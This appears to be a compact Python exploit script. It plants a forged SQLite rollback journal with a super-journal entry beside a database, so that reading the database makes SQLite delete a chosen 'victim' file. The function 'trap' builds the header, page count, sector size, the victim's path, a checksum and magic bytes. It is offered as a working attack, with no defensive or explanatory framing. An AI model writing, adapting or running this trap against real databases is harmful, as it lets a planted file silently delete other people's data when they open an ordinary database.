"""Journals as SQLite keeps them beside a database that several others are changed together with."""

import struct
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")
_SECTOR = 512


def trap(database: Path, victim: Path) -> None:
    """Put a journal beside a database that names a file, which SQLite deletes as soon as the database is read."""
    (page,) = struct.unpack(">H", database.read_bytes()[16:18])
    name, pages = str(victim).encode(), database.stat().st_size // page
    head = (_MAGIC + struct.pack(">5I", 0, 0, pages, _SECTOR, page)).ljust(_SECTOR, b"\0")
    tail = struct.pack(">I", 2**30 // page + 1) + name + struct.pack(">2I", len(name), sum(name)) + _MAGIC
    database.with_name(f"{database.name}-journal").write_bytes(head + tail)
